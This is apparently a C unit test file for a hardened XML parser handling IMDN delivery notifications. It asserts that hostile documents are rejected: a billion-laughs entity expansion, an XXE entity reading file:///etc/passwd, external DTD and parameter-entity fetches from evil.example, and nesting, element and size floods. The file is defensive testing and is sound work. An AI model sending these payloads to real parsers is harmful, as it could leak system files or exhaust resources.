/*
 * test_imdn_xml_hostile.c - XML-1..XML-4: the hardened reader under
 * attack, through the IMDN entry point: DOCTYPE (billion laughs, external
 * entity / XXE, parameter entities), deep nesting, element and attribute
 * floods, huge text, oversize input, malformed and truncated documents,
 * non-UTF-8 declarations, and allocation failures inside expat.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "cairn/imdn.h"
#include "cairn/rcsxml.h"
#include "test_support.h"

static cairn_context *g_ctx;

static const char good[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
    "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\">\n"
    "  <message-id>34jk324j</message-id>\n"
    "  <datetime>2008-04-04T12:16:49-05:00</datetime>\n"
    "  <display-notification><status><displayed/></status></display-notification>\n"
    "</imdn>\n";

static cairn_status parse(const char *s, size_t n)
{
    cairn_imdn out;
    return cairn_imdn_parse_xml(g_ctx, (const uint8_t *)s, n, &out);
}
#define P(s) parse((s), strlen(s))

/* XML-1: no DOCTYPE of any kind. */
static void test_doctype_attacks(void **state)
{
    static const char *attacks[] = {
        /* billion laughs */
        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
        "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
        "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>"
        "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\"><message-id>&lol3;</message-id>"
        "<display-notification><status><displayed/></status></display-notification></imdn>",
        /* external entity (XXE) */
        "<?xml version=\"1.0\"?><!DOCTYPE imdn [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
        "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\"><message-id>&xxe;</message-id>"
        "<display-notification><status><displayed/></status></display-notification></imdn>",
        /* parameter entity / external DTD */
        "<?xml version=\"1.0\"?><!DOCTYPE imdn SYSTEM \"http://evil.example/x.dtd\">"
        "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\"><message-id>a</message-id>"
        "<display-notification><status><displayed/></status></display-notification></imdn>",
        "<!DOCTYPE imdn [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]><imdn/>",
        /* an empty DOCTYPE is refused too */
        "<!DOCTYPE imdn><imdn xmlns=\"urn:ietf:params:xml:ns:imdn\"><message-id>a</message-id>"
        "<display-notification><status><displayed/></status></display-notification></imdn>",
    };
    size_t i;
    (void)state;
    for (i = 0; i < CAIRN_ARRAY_LEN(attacks); i++)
        assert_int_equal(P(attacks[i]), CAIRN_ERR_DECODE);
    /* an undeclared entity reference is simply malformed */
    assert_int_equal(P("<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\"><message-id>&x;</message-id></imdn>"),
                     CAIRN_ERR_DECODE);
    /* the predefined ones work */
    {
        cairn_imdn out;
        const char *s = "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\"><message-id>a&amp;b&#65;</message-id>"
                        "<display-notification><status><displayed/></status></display-notification></imdn>";
        assert_int_equal(cairn_imdn_parse_xml(g_ctx, (const uint8_t *)s, strlen(s), &out), CAIRN_OK);
        assert_string_equal(out.message_id, "a&bA");
    }
}

/* XML-2: depth, element, attribute and text caps. */
static void test_caps(void **state)
{
    char *s = malloc(200000);
    size_t off, i;
    (void)state;
    /* depth 17 */
    off = (size_t)sprintf(s, "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\">");
    for (i = 0; i < 16; i++)
        off += (size_t)sprintf(s + off, "<d>");
    for (i = 0; i < 16; i++)
        off += (size_t)sprintf(s + off, "</d>");
    sprintf(s + off, "</imdn>");
    assert_int_equal(P(s), CAIRN_ERR_LIMIT);
    /* 10000-deep nesting (bounded before expat's own stack grows far) */
    off = (size_t)sprintf(s, "<imdn>");
    for (i = 0; i < 10000; i++)
        off += (size_t)sprintf(s + off, "<a>");
    assert_int_equal(parse(s, off), CAIRN_ERR_LIMIT);
    /* 300 elements */
    off = (size_t)sprintf(s, "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\">");
    for (i = 0; i < 300; i++)
        off += (size_t)sprintf(s + off, "<x/>");
    sprintf(s + off, "</imdn>");
    assert_int_equal(P(s), CAIRN_ERR_LIMIT);
    /* 20 attributes */
    off = (size_t)sprintf(s, "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\"");
    for (i = 0; i < 20; i++)
        off += (size_t)sprintf(s + off, " a%zu=\"v\"", i);
    sprintf(s + off, "/>");
    assert_int_equal(P(s), CAIRN_ERR_LIMIT);
    /* text over the per-element cap */
    off = (size_t)sprintf(s, "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\"><message-id>");
    memset(s + off, 'a', 5000);
    off += 5000;
    sprintf(s + off, "</message-id></imdn>");
    assert_int_equal(P(s), CAIRN_ERR_TOO_LARGE);
    /* a field longer than its slot */
    off = (size_t)sprintf(s, "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\"><message-id>");
    memset(s + off, 'a', 300);
    off += 300;
    sprintf(s + off, "</message-id><display-notification><status><displayed/></status></display-notification></imdn>");
    assert_int_equal(P(s), CAIRN_ERR_TOO_LARGE);
    /* input over 64 KiB, even if well-formed */
    off = (size_t)sprintf(s, "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\">");
    memset(s + off, ' ', 70000);
    off += 70000;
    sprintf(s + off, "</imdn>");
    assert_int_equal(P(s), CAIRN_ERR_TOO_LARGE);
    free(s);
}

/* XML-3: malformed, truncated, flipped, other encodings. */
static void test_malformed(void **state)
{
    size_t n, i;
    char *copy;
    (void)state;
    assert_int_equal(P(""), CAIRN_ERR_DECODE);
    assert_int_equal(P("<imdn"), CAIRN_ERR_DECODE);
    assert_int_equal(P("<imdn></imdm>"), CAIRN_ERR_DECODE);
    assert_int_equal(P("<imdn/><imdn/>"), CAIRN_ERR_DECODE);
    assert_int_equal(P("<a:imdn xmlns:b=\"x\"/>"), CAIRN_ERR_DECODE); /* unbound prefix */
    assert_int_equal(parse("<imdn>\xff\xfe</imdn>", 14), CAIRN_ERR_DECODE); /* not UTF-8 */
    assert_int_equal(parse("<imdn>\0</imdn>", 14), CAIRN_ERR_DECODE);
    /* every truncation of a good document fails cleanly */
    for (n = 0; n < sizeof(good) - 1; n++) {
        cairn_status rc = parse(good, n);
        if (n < sizeof(good) - 2) /* only the final newline may go */
            assert_int_equal(rc, CAIRN_ERR_DECODE);
        else
            assert_int_equal(rc, CAIRN_OK);
    }
    assert_int_equal(parse(good, sizeof(good) - 1), CAIRN_OK);
    /* flipped bytes never crash and never produce half-written output */
    copy = malloc(sizeof(good));
    for (i = 0; i < sizeof(good) - 1; i++) {
        cairn_imdn out;
        cairn_status rc;
        memcpy(copy, good, sizeof(good));
        copy[i] ^= 0x20;
        memset(&out, 0, sizeof(out));
        rc = cairn_imdn_parse_xml(g_ctx, (uint8_t *)copy, sizeof(good) - 1, &out);
        if (rc != CAIRN_OK)
            assert_int_equal(out.message_id[0], 0);
    }
    free(copy);
    /* a declared Latin-1 document is still read as UTF-8 */
    assert_int_equal(P("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>"
                       "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\"><message-id>\xe9</message-id>"
                       "<display-notification><status><displayed/></status></display-notification></imdn>"),
                     CAIRN_ERR_DECODE);
}

/* XML-4: expat allocates through the context: each failure is clean. */
static void test_alloc_failures(void **state)
{
    long k, live0 = cts_live_allocations();
    bool ok = false;
    (void)state;
    for (k = 0; k < 200 && !ok; k++) {
        cairn_status rc;
        cts_fail_after(k);
        rc = parse(good, sizeof(good) - 1);
        cts_fail_after(-1);
        ok = rc == CAIRN_OK;
        if (!ok)
            assert_int_equal(rc, CAIRN_ERR_NOMEM);
        assert_int_equal(cts_live_allocations(), live0);
    }
    assert_true(ok);
    assert_true(k > 2); /* expat's own allocations were reached */
}

static void test_escape(void **state)
{
    cairn__buf b;
    (void)state;
    cairn__buf_init(&b, g_ctx, 256);
    assert_int_equal(cairn_rcsxml_escape(&b, "<a href='x'>&\"</a>"), CAIRN_OK);
    assert_string_equal((char *)b.data, "&lt;a href=&apos;x&apos;&gt;&amp;&quot;&lt;/a&gt;");
    assert_int_equal(cairn_rcsxml_escape(&b, "bell\x07"), CAIRN_ERR_INVALID_ARG);
    cairn__buf_free(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_doctype_attacks),
        cmocka_unit_test(test_caps),
        cmocka_unit_test(test_malformed),
        cmocka_unit_test(test_alloc_failures),
        cmocka_unit_test(test_escape),
    };
    int rc;
    g_ctx = cts_context();
    rc = cmocka_run_group_tests(tests, NULL, NULL);
    cairn_context_destroy(g_ctx);
    return rc;
}
